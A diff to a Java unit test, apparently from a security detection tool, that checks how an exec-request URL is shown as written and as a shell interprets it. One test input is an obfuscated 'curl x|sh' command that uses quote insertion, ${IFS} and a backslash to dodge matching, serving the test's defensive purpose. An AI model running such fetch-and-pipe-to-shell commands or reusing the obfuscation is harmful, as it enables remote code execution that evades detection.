@@ -1,4 +1,4 @@
-package io.tocsin.detections;
+package io.tocsin.enrich;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
@@ -125,6 +125,15 @@ class ExecCommandTest {
             })
     void commandsThatAreAuditedOpenNone(String command) {
         assertThat(run(command).opensShell()).isFalse();
+    }
+
+    @Test
+    void tellsItsLineAsWrittenAndAsAShellSeesIt() {
+        assertThat(ExecCommand.of("/exec?command=ls&command=-l").lines()).containsExactly("ls -l");
+        assertThat(ExecCommand.of("/exec?command=sh&command=-c&command=c%22%22url${IFS}x|s%5Ch")
+                        .lines())
+                .containsExactly("sh -c c\"\"url${IFS}x|s\\h", "sh -c curl x|sh");
+        assertThat(ExecCommand.of("/exec?stdin=true").lines()).isEmpty();
     }
 
     @Test
